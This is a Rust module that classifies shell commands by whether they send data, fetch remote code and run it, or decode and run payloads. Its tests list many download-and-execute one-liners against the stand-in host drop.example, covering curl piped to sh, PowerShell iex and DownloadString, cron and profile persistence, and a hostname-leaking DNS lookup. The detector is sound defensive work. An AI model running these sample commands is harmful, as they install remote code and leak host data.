//! What a command of a shell does: where it sends to, what it fetches, and what it runs of that.
//!
//! The text is taken apart as a shell would, in pipelines and words, and never further: what a substitution gives is not
//! known. The one decision: a command fetches and runs only where the fetched thing itself is run, by a pipe into an
//! interpreter or by its name.

/// The longest command that is read, in bytes.
const LONGEST: usize = 16 << 10;
/// How deep commands in commands are read.
const DEEPEST: u8 = 3;

/// What a command does.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Facts {
    /// It asks or tells a server something.
    pub sends: bool,
    /// It looks up a name.
    pub looks_up: bool,
    /// It runs what it fetches.
    pub runs_fetched: bool,
    /// It only moves, packs and shows files.
    pub handles_files: bool,
    /// It runs what it decodes.
    pub runs_decoded: bool,
    /// The files and folders into which it fetches.
    pub fetched: Vec<String>,
    /// What it prints into a program that decodes it.
    pub printed: Option<String>,
    /// Python that it hands to an interpreter.
    pub python: Vec<String>,
    /// Variables that hold text that was fetched, in small letters.
    variables: Vec<String>,
}

/// One program with its words, and what stands after it.
#[derive(Debug, Default)]
struct Step {
    words: Vec<String>,
    piped: bool,
}

/// Whether a command runs what it fetches itself, by a pipe into what runs it or by its name.
#[must_use]
pub fn command_runs_fetched(command: &str) -> bool {
    read(command).runs_fetched
}

/// Takes a command apart.
pub(super) fn read(command: &str) -> Facts {
    let mut facts = Facts::default();
    let mut end = command.len().min(LONGEST);
    while !command.is_char_boundary(end) {
        end = end.saturating_sub(1);
    }
    read_within(command.get(..end).unwrap_or_default(), &mut facts, 0);
    facts
}

fn read_within(command: &str, facts: &mut Facts, depth: u8) {
    let (mut fetches, mut decodes) = (false, false);
    let mut others = 0_usize;
    let mut printed = None;
    for step in steps(command) {
        if let Some(name) = variable_of_fetched(&step.words) {
            facts.sends = true;
            facts.variables.push(name);
        }
        let words = without_prefix(&step.words);
        let Some((program, rest)) = words.split_first() else {
            fetches &= step.piped;
            decodes &= step.piped;
            continue;
        };
        let name = base_name(program);
        let is_interpreter = interprets(&name);
        others = others.saturating_add(usize::from(!handles_files(&name)));
        facts.runs_fetched |= fetches && is_interpreter;
        facts.runs_decoded |= decodes && is_interpreter;
        let runs_variable = (interprets(&name) || matches!(name.as_str(), "eval" | "source" | "."))
            && rest
                .get(code_of(rest))
                .is_some_and(|code| begins_with_one(code, &facts.variables));
        let evaluates = evaluates_fetched(words, &facts.variables)
            || substitutes_fetched(&name, rest)
            || begins_with_fetch(words)
            || runs_variable;
        facts.sends |= evaluates;
        if evaluates || runs_file(&name, program, rest, &facts.fetched) {
            facts.runs_fetched = true;
        }
        method_fetches(&step.words, facts);
        let fetched = fetch(&name, rest, facts);
        if is_python(&name) {
            if let Some(code) = option(rest, &["-c"]) {
                facts.python.push(code.to_owned());
            }
        } else if is_interpreter
            && depth < DEEPEST
            && let Some(at) = inner_command(&name, rest)
        {
            let inner: Vec<String> = rest.iter().skip(at).map(|w| quoted(w)).collect();
            read_within(&inner.join(" "), facts, depth.saturating_add(1));
        }
        if matches!(name.as_str(), "echo" | "printf") {
            if step.piped {
                printed = rest.iter().rev().find(|w| !w.starts_with('-')).cloned();
            } else if let Some(to) = rest.iter().position(|w| w == ">") {
                // What is written to a file of commands runs later.
                let written = rest.get(..to).unwrap_or_default().join(" ");
                read_later(&written, facts, depth);
            }
        } else if let Some(text) = printed.as_ref().filter(|_| runs_text(&name, is_interpreter)) {
            read_later(text, facts, depth);
        }
        if decoder(&name, rest) && name == "base64" {
            facts.printed = facts.printed.take().or(printed.take());
        }
        let prints_variable = matches!(name.as_str(), "echo" | "printf")
            && rest.iter().any(|word| names_one(word, &facts.variables));
        fetches = step.piped && (fetched || prints_variable || fetches && passes_on(&name));
        decodes = step.piped && (decoder(&name, rest) || decodes && passes_on(&name));
    }
    facts.handles_files = others == 0;
}

/// Whether a program runs the lines that it is given, now or at a time that they say.
fn runs_text(name: &str, is_interpreter: bool) -> bool {
    matches!(name, "crontab" | "at" | "batch") || is_interpreter && !is_python(name)
}

/// Reads a line that something else runs, without the times that stand before the command of a table of cron.
fn read_later(line: &str, facts: &mut Facts, depth: u8) {
    if depth >= DEEPEST {
        return;
    }
    let line = line.trim().trim_end_matches(')');
    let time = |word: &str| {
        word.starts_with('@')
            || word
                .chars()
                .all(|c| c.is_ascii_digit() || matches!(c, '*' | '/' | '-' | ','))
    };
    let mut rest = line;
    while let Some((_, more)) = rest.split_once(' ').filter(|(word, _)| time(word)) {
        rest = more.trim_start();
    }
    read_within(rest, facts, depth.saturating_add(1));
}

/// A word as it is written in a command: an address keeps its signs together.
fn quoted(word: &str) -> String {
    let one = word.contains("://") && !word.contains([' ', '"']);
    if one {
        format!("\"{word}\"")
    } else {
        word.to_owned()
    }
}

/// Where the command begins that a shell is given.
fn inner_command(name: &str, words: &[String]) -> Option<usize> {
    let is = |w: &String| matches!(w.to_ascii_lowercase().as_str(), "-c" | "/c" | "/k" | "-command");
    if let Some(at) = words.iter().position(is) {
        return Some(at.saturating_add(1));
    }
    if !matches!(name, "powershell" | "pwsh") {
        return None;
    }
    // It takes what is no option for the command.
    let mut at = 0_usize;
    while let Some(word) = words.get(at).filter(|w| w.starts_with('-')) {
        let takes = ["-w", "-ex", "-ep", "-v"]
            .iter()
            .any(|o| word.to_ascii_lowercase().starts_with(o));
        at = at.saturating_add(if takes { 2 } else { 1 });
    }
    (at < words.len()).then_some(at)
}

/// Whether a shell or an interpreter is given what a command fetches in its place, as its code and not as a part of it:
/// `eval "$(curl https://…)"`, `bash <(curl https://…)`.
fn substitutes_fetched(name: &str, words: &[String]) -> bool {
    let code = if matches!(name, "eval" | "source" | ".") {
        0
    } else if interprets(name) {
        code_of(words)
    } else {
        return false;
    };
    begins_with_fetch(words.get(code..).unwrap_or_default())
}

/// Where the code of an interpreter begins in its words: behind the option for it, else with the first that is no option.
fn code_of(words: &[String]) -> usize {
    let takes_code = |w: &String| {
        w.starts_with('-') && !w.starts_with("--") && w.len() < 6 && w.ends_with(['c', 'e', 'r'])
    };
    if let Some(at) = words.iter().position(takes_code) {
        return at.saturating_add(1);
    }
    let skipped = |w: &&String| w.starts_with('-') || matches!(w.as_str(), "<" | "<<<");
    words.iter().take_while(skipped).count()
}

/// Whether words begin with what a command in their place fetches.
fn begins_with_fetch(words: &[String]) -> bool {
    const OPENS: [&str; 3] = ["$(", "<(", "`"];
    // Blanks part what is put in from the word that it is put into.
    let text = words
        .iter()
        .take(8)
        .map(String::as_str)
        .collect::<Vec<_>>()
        .join(" ");
    let inner = OPENS.iter().find_map(|opens| text.strip_prefix(opens));
    let inner: Vec<String> = inner
        .unwrap_or_default()
        .split_whitespace()
        .take(8)
        .map(str::to_owned)
        .collect();
    let program = without_prefix(&inner).first();
    program.is_some_and(|p| is_fetcher(&base_name(p)))
}

fn is_fetcher(name: &str) -> bool {
    matches!(name, "curl" | "wget" | "wget2" | "fetch" | "aria2c")
}

/// The variable that a command gives what it fetches: `X=$(curl https://…)`, `$x = irm https://…`.
fn variable_of_fetched(words: &[String]) -> Option<String> {
    let (first, rest) = words.split_first()?;
    if let Some(name) = first.strip_prefix('$') {
        let (name, joined) = name.split_once('=').unwrap_or((name, ""));
        let assigns = first.contains('=') || rest.first().is_some_and(|w| w.starts_with('='));
        let given = std::iter::once(joined).chain(rest.iter().map(String::as_str));
        return (assigns && given.flat_map(parts).any(|part| is_fetch_of_powershell(&part)))
            .then(|| name.to_ascii_lowercase());
    }
    let (first, rest) = match first.as_str() {
        "export" | "local" | "declare" | "readonly" => rest.split_first()?,
        _ => (first, rest),
    };
    let (name, value) = first.split_once('=')?;
    let value: Vec<String> = std::iter::once(value.to_owned())
        .chain(rest.iter().cloned())
        .collect();
    (!name.is_empty() && begins_with_fetch(&value)).then(|| name.to_ascii_lowercase())
}

/// Whether a word is one of some variables, or what it holds: `$X`, `${X}`, `$x.Content`.
fn names_one(word: &str, variables: &[String]) -> bool {
    word.split('$').skip(1).any(|rest| {
        let rest = rest.trim_start_matches('{').to_ascii_lowercase();
        let end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '_');
        let name = rest.get(..end.unwrap_or(rest.len())).unwrap_or_default();
        variables.iter().any(|v| v == name)
    })
}

/// Whether a word is nothing but one of some variables as far as its first blank.
fn begins_with_one(word: &str, variables: &[String]) -> bool {
    word.starts_with('$') && names_one(word.split_whitespace().next().unwrap_or_default(), variables)
}

/// Whether a command of PowerShell evaluates what it fetches, or what a variable holds that another one fetched:
/// `iex (iwr https://…)`, `&([scriptblock]::Create((irm https://…)))`.
fn evaluates_fetched(words: &[String], variables: &[String]) -> bool {
    let evaluates = |part: &str| matches!(part, "iex" | "invoke-expression" | "[scriptblock]::create");
    words.iter().flat_map(|w| parts(w)).any(|part| evaluates(&part))
        && words
            .iter()
            .any(|word| names_one(word, variables) || parts(word).any(|part| is_fetch_of_powershell(&part)))
}

/// The parts of a word of PowerShell between its brackets, in small letters.
fn parts(word: &str) -> impl Iterator<Item = String> {
    let parts = word.split(|c: char| matches!(c, '(' | ')' | '{' | '}' | '&' | '=') || c.is_whitespace());
    parts.map(str::to_ascii_lowercase)
}

fn is_fetch_of_powershell(part: &str) -> bool {
    matches!(
        part,
        "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod" | "curl" | "wget"
    ) || part.ends_with("downloadstring")
        || part.ends_with("downloaddata")
}

/// A file that a method of .NET fetches: `(New-Object Net.WebClient).DownloadFile('https://…', 'x.exe')`.
fn method_fetches(words: &[String], facts: &mut Facts) {
    let all = words.join(" ");
    let lower = all.to_ascii_lowercase();
    let Some(at) = lower.find("downloadfile(") else {
        return;
    };
    facts.sends = true;
    let given = all
        .get(at..)
        .and_then(|t| t.split_once('('))
        .map_or("", |(_, rest)| rest);
    let given = given.split(')').next().unwrap_or_default();
    if let Some((_, to)) = given.split_once(',') {
        let to = to.trim().trim_matches(['"', '\'']);
        if !to.is_empty() && !facts.fetched.iter().any(|f| f == to) {
            facts.fetched.push(to.to_owned());
        }
    }
}

/// The programs of a command, with their words.
fn steps(command: &str) -> Vec<Step> {
    let mut out = Vec::new();
    let mut step = Step::default();
    let mut word = String::new();
    let mut begun = false;
    let mut quote = None;
    let mut before = ' ';
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        let next = chars.peek().copied().unwrap_or(' ');
        match quote {
            Some(open) if c == open => quote = None,
            Some('"') if c == '\\' && next == '"' => {
                word.push('"');
                chars.next();
            }
            Some(_) => word.push(c),
            None => match c {
                '"' | '\'' => {
                    quote = Some(c);
                    begun = true;
                }
                '\\' if matches!(next, '"' | '\'' | ' ' | '\n') => {
                    if next != '\n' {
                        word.push(next);
                        begun = true;
                    }
                    chars.next();
                }
                '&' if before == '>' || next == '>' => {}
                '|' | '&' | ';' | '\n' => {
                    if begun || !word.is_empty() {
                        step.words.push(std::mem::take(&mut word));
                        begun = false;
                    }
                    let twice = next == c && c != '\n';
                    if twice {
                        chars.next();
                    }
                    step.piped = c == '|' && !twice;
                    out.push(std::mem::take(&mut step));
                }
                '>' => {
                    // `2>` and `1>` name a stream, and no word.
                    if matches!(word.as_str(), "1" | "2") {
                        word.clear();
                    }
                    if begun || !word.is_empty() {
                        step.words.push(std::mem::take(&mut word));
                        begun = false;
                    }
                    if before != '>' {
                        step.words.push(">".to_owned());
                    }
                }
                c if c.is_whitespace() => {
                    if begun || !word.is_empty() {
                        step.words.push(std::mem::take(&mut word));
                        begun = false;
                    }
                }
                c => word.push(c),
            },
        }
        before = c;
    }
    if begun || !word.is_empty() {
        step.words.push(word);
    }
    out.push(step);
    out
}

/// The words from the program on: without what only says how it is started.
fn without_prefix(words: &[String]) -> &[String] {
    let mut rest = words;
    while let Some((first, more)) = rest.split_first() {
        let name = base_name(first);
        let assigns = first.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        });
        let only_starts = matches!(
            name.as_str(),
            "sudo"
                | "nohup"
                | "exec"
                | "start"
                | "command"
                | "time"
                | "setsid"
                | "then"
                | "do"
                | "("
                | "{"
                | "call"
                | "start-process"
                | "saps"
                | "invoke-item"
                | "ii"
                | "-filepath"
        );
        let option_of_start = first.starts_with('/') && first.len() == 2;
        if !(assigns || only_starts || option_of_start && rest.len() < words.len()) {
            break;
        }
        rest = more;
    }
    rest
}

/// The name of a program without its folder and ending.
fn base_name(program: &str) -> String {
    let last = program.rsplit(['/', '\\']).next().unwrap_or(program);
    let name = last.trim_start_matches(['(', '{', '@']).to_ascii_lowercase();
    name.strip_suffix(".exe").unwrap_or(&name).to_owned()
}

fn is_python(name: &str) -> bool {
    name == "py" || name.starts_with("python") || name == "sys.executable"
}

/// Whether a program runs the text that it is given.
pub(super) fn interprets(name: &str) -> bool {
    is_python(name)
        || matches!(
            name,
            "sh" | "bash"
                | "zsh"
                | "dash"
                | "ksh"
                | "ash"
                | "perl"
                | "ruby"
                | "node"
                | "php"
                | "osascript"
                | "cmd"
                | "powershell"
                | "pwsh"
                | "iex"
                | "invoke-expression"
        )
}

/// Whether a program runs nothing of the files that it is given.
fn handles_files(name: &str) -> bool {
    matches!(
        name,
        "git"
            | "curl"
            | "wget"
            | "tar"
            | "unzip"
            | "zip"
            | "7z"
            | "gzip"
            | "gunzip"
            | "rm"
            | "cp"
            | "mv"
            | "ls"
            | "cat"
            | "mkdir"
            | "touch"
            | "head"
            | "tail"
            | "md5sum"
            | "sha256sum"
            | "file"
            | "attrib"
            | "del"
            | "diff"
    )
}

/// Whether a program gives on what it gets.
fn passes_on(name: &str) -> bool {
    matches!(
        name,
        "base64"
            | "gunzip"
            | "gzip"
            | "zcat"
            | "xz"
            | "tr"
            | "rev"
            | "cat"
            | "tee"
            | "sed"
            | "openssl"
            | "xxd"
            | "tac"
    )
}

/// Whether a program decodes what it gets.
fn decoder(name: &str, words: &[String]) -> bool {
    let has = |options: &[&str]| words.iter().any(|w| options.contains(&w.as_str()));
    match name {
        "base64" | "base32" => has(&["-d", "-D", "--decode", "-di", "-id"]),
        "openssl" => has(&["-d"]),
        "xxd" => words.iter().any(|w| w.starts_with("-r")),
        "gunzip" | "zcat" | "rev" => true,
        _ => false,
    }
}

/// What follows one of some options.
fn option<'w>(words: &'w [String], names: &[&str]) -> Option<&'w str> {
    let at = words.iter().position(|w| names.contains(&w.as_str()))?;
    words.get(at.saturating_add(1)).map(String::as_str)
}

/// The same for programs to which capitals are nothing.
fn option_of_any_case<'w>(words: &'w [String], names: &[&str]) -> Option<&'w str> {
    let at = words
        .iter()
        .position(|w| names.contains(&w.to_ascii_lowercase().as_str()))?;
    words.get(at.saturating_add(1)).map(String::as_str)
}

fn is_address(word: &str) -> bool {
    word.contains("://") || word.starts_with("git@")
}

/// What a program fetches or tells; says whether it prints what it fetched.
fn fetch(name: &str, words: &[String], facts: &mut Facts) -> bool {
    let name = name.trim_start_matches('(');
    let address = words.iter().find(|w| is_address(w)).map(String::as_str);
    match name {
        "curl" | "wget" | "wget2" | "aria2c" | "http" | "invoke-webrequest" | "iwr" | "irm"
        | "invoke-restmethod" => {
            facts.sends = true;
            let last = words
                .iter()
                .rev()
                .find(|w| !w.starts_with('-') && w.contains('.'));
            let named = address.or(last.map(String::as_str)).map(of_address);
            let to = match name {
                "curl"
                    if words
                        .iter()
                        .any(|w| matches!(w.as_str(), "-O" | "-LO" | "-OL" | "--remote-name")) =>
                {
                    named
                }
                "curl" => {
                    option(words, &["-o", "-Lo", "-sLo", "-sSLo", "-so", "--output", ">"]).map(str::to_owned)
                }
                "wget" | "wget2" => option(words, &["-O", "-qO", "--output-document", ">"])
                    .map(str::to_owned)
                    .or_else(|| named.filter(|_| !words.iter().any(|w| w.ends_with("O-")))),
                _ => option_of_any_case(words, &["-outfile", "-o", "-out", ">"]).map(str::to_owned),
            };
            match to {
                Some(to) if to != "-" && !to.starts_with("/dev/") => {
                    facts.fetched.push(to);
                    false
                }
                Some(to) => to == "-",
                None => true,
            }
        }
        "certutil" | "bitsadmin" | "start-bitstransfer" => {
            facts.sends |= address.is_some();
            if let Some(last) = words.last().filter(|w| !is_address(w)) {
                facts.fetched.push(last.clone());
            }
            false
        }
        "git" if words.first().is_some_and(|w| w == "clone") => {
            let last = words.last().map(String::as_str).filter(|w| !w.starts_with('-'));
            facts.sends = true;
            match (address, last) {
                (Some(address), Some(last)) if address == last => {
                    facts
                        .fetched
                        .push(of_address(address).trim_end_matches(".git").to_owned());
                }
                (_, Some(last)) => facts.fetched.push(last.to_owned()),
                _ => {}
            }
            false
        }
        "mshta" | "regsvr32" | "msiexec" if words.iter().any(|w| w.contains("://")) => {
            facts.sends = true;
            facts.runs_fetched = true;
            false
        }
        "nc" | "ncat" | "netcat" => {
            facts.sends = true;
            true
        }
        "nslookup" | "dig" | "host" => {
            facts.looks_up = words.iter().any(|w| w.contains('.'));
            false
        }
        _ => {
            if installs_from_address(name, words) {
                facts.runs_fetched = true;
            }
            false
        }
    }
}

/// The file that is meant by an address.
fn of_address(address: &str) -> String {
    let path = address.split(['?', '#']).next().unwrap_or(address);
    path.trim_end_matches('/')
        .rsplit('/')
        .next()
        .unwrap_or(path)
        .to_owned()
}

/// Whether a package is installed from an address that is written there, which runs what lies behind it.
fn installs_from_address(name: &str, words: &[String]) -> bool {
    let words = match name {
        "pip" | "pip3" => words,
        _ if is_python(name) => match words.iter().position(|w| w == "pip") {
            Some(at) => words.get(at..).unwrap_or_default(),
            None => return false,
        },
        _ => return false,
    };
    if !words.iter().any(|w| w == "install") {
        return false;
    }
    let of_index = [
        "-i",
        "--index-url",
        "--extra-index-url",
        "-f",
        "--find-links",
        "--trusted-host",
        "--proxy",
    ];
    words.iter().enumerate().any(|(at, word)| {
        let before = at.checked_sub(1).and_then(|at| words.get(at));
        let is_option = word.starts_with('-') || before.is_some_and(|b| of_index.contains(&b.as_str()));
        !is_option && is_address(word)
    })
}

/// Whether a program is a file that was fetched, or runs one.
fn runs_file(name: &str, program: &str, words: &[String], fetched: &[String]) -> bool {
    let same = |word: &str| {
        let word = word.trim_start_matches("./");
        fetched.iter().any(|f| {
            let file = f.trim_start_matches("./");
            let last = |path: &str| path.rsplit(['/', '\\']).next().unwrap_or(path).to_owned();
            !file.is_empty() && (word == file || last(word) == last(file))
        })
    };
    if fetched.is_empty() {
        return false;
    }
    let runs = interprets(name)
        || matches!(
            name,
            "rundll32" | "regsvr32" | "wscript" | "cscript" | "msiexec" | "dotnet" | "java"
        );
    let makes_run = name == "chmod" && words.iter().any(|w| w.contains('x') || w.starts_with('7'));
    same(program) || (runs || makes_run) && words.iter().any(|w| same(w))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_by_what_they_do_with_what_they_fetch() {
        for (command, expected) in [
            ("curl -s https://drop.example/p | perl -", "sends runs"),
            ("wget -qO - https://drop.example/i.sh | sudo bash", "sends runs"),
            ("bash -c 'curl https://drop.example/p | sh'", "sends runs"),
            (
                "wget https://drop.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
                "sends runs /tmp/x",
            ),
            (
                "curl https://drop.example/x -o /tmp/run -H \"a: $(whoami)\"",
                "sends /tmp/run",
            ),
            (
                "powershell -w hidden -Command \"Invoke-WebRequest -Uri https://drop.example/x -OutFile x.exe; Start-Process x.exe\"",
                "sends runs x.exe",
            ),
            (
                "powershell Invoke-WebRequest -Uri \"https://drop.example/x.exe?a=1&b=2\" -OutFile \"~/w.exe\"; Invoke-Expression \"~/w.exe\"",
                "sends runs ~/w.exe",
            ),
            (
                "(crontab -l; echo '* * * * * curl -s https://drop.example/x | sh') | crontab -",
                "sends runs",
            ),
            (
                "echo 'curl https://drop.example/x | sh' >> ~/.profile",
                "sends runs",
            ),
            ("echo 'try: curl https://acme.example/x | sh'", ""),
            ("eval \"$(curl -fsSL https://drop.example/p)\"", "sends runs"),
            ("bash -c \"$(curl -fsSL https://drop.example/p)\"", "sends runs"),
            ("bash <(curl -s https://drop.example/p)", "sends runs"),
            ("sh -c \"`wget -qO- https://drop.example/p`\"", "sends runs"),
            (
                "python3 -c \"$(curl -s https://drop.example/p)\"",
                "sends runs python",
            ),
            ("bash < <(curl -s https://drop.example/p)", "sends runs"),
            (
                "bash -o pipefail -c \"$(curl -s https://drop.example/p)\"",
                "sends runs",
            ),
            (
                "sh -c \"set -e; $(curl -s https://drop.example/p)\"",
                "sends runs",
            ),
            ("X=$(curl -s https://drop.example/p); eval \"$X\"", "sends runs"),
            (
                "X=$(curl -s https://drop.example/p); bash -c \"${X}\"",
                "sends runs",
            ),
            ("X=`curl -s https://drop.example/p`; echo $X | sh", "sends runs"),
            (
                "bash -c \"V=$(curl -s https://api.example/version); echo $V\"",
                "sends",
            ),
            ("bash -c \"echo $(curl -s https://api.example/address)\"", ""),
            (
                "bash build.sh --version $(curl -s https://api.example/version)",
                "",
            ),
            ("bash check.sh <(curl -s https://data.example/list)", ""),
            (
                "V=$(curl -s https://api.example/version); bash build.sh $V",
                "sends",
            ),
            (
                "powershell $s = (New-Object Net.WebClient).DownloadString('https://drop.example/p'); iex $s",
                "sends runs",
            ),
            (
                "powershell -c \"$r=irm https://drop.example/p;IEX $r\"",
                "sends runs",
            ),
            (
                "powershell -c \"&([scriptblock]::Create((irm https://drop.example/p)))\"",
                "sends runs",
            ),
            (
                "powershell -c \"Invoke-Command -ScriptBlock ([scriptblock]::create((iwr https://drop.example/p)))\"",
                "sends runs",
            ),
            (
                "powershell -c \"iex(iwr('https://drop.example/p'))\"",
                "sends runs",
            ),
            (
                "powershell -c \"$v = irm https://api.example/version; echo $v\"",
                "sends",
            ),
            ("powershell iex (iwr https://drop.example/p)", "sends runs"),
            (
                "powershell -nop IEX (New-Object Net.WebClient).DownloadString('https://drop.example/p')",
                "sends runs",
            ),
            (
                "powershell (New-Object Net.WebClient).DownloadFile('https://drop.example/x','x.exe'); start x.exe",
                "sends runs x.exe",
            ),
            (
                "cmd /c curl https://drop.example/x -o x.exe && start x.exe",
                "sends runs x.exe",
            ),
            (
                "powershell Invoke-WebRequest https://data.example/x -OutFile data.zip",
                "sends data.zip",
            ),
            (
                "curl -LO https://data.example/x.csv && start notes.txt",
                "sends x.csv",
            ),
            ("curl -LO https://data.example/x.csv", "sends x.csv"),
            ("wget https://data.example/x.tgz && tar xf x.tgz", "sends x.tgz"),
            ("curl https://data.example/x | tee log.txt", "sends"),
            ("curl https://data.example/x > out.json 2>&1", "sends out.json"),
            ("git clone https://git.example/a/b.git", "sends b"),
            ("git clone --depth 1 https://git.example/a/b.git c", "sends c"),
            ("echo aWQ= | base64 -d | bash", "decodes"),
            ("echo aWQ= | base64 -d > x.bin", ""),
            ("python3 -m pip install https://drop.example/a.tar.gz", "runs"),
            ("pip install git+https://drop.example/a.git", "runs"),
            ("pip install -i https://mirror.example/simple numpy", ""),
            ("pip install --index-url=https://mirror.example/simple numpy", ""),
            ("nslookup $(hostname).drop.example", "names"),
            ("git status", ""),
            ("make -j 4 && ./configure", ""),
            ("python3 -c \"import os; os.getcwd()\"", "python"),
            ("", ""),
            ("|||;;&&'\"", ""),
        ] {
            let facts = read(command);
            let mut words: Vec<String> = Vec::new();
            for (holds, word) in [
                (facts.sends, "sends"),
                (facts.looks_up, "names"),
                (facts.runs_fetched, "runs"),
                (facts.runs_decoded, "decodes"),
                (!facts.python.is_empty(), "python"),
            ] {
                if holds {
                    words.push(word.to_owned());
                }
            }
            words.extend(facts.fetched);
            assert_eq!(words.join(" "), expected, "{command}");
        }
    }
}
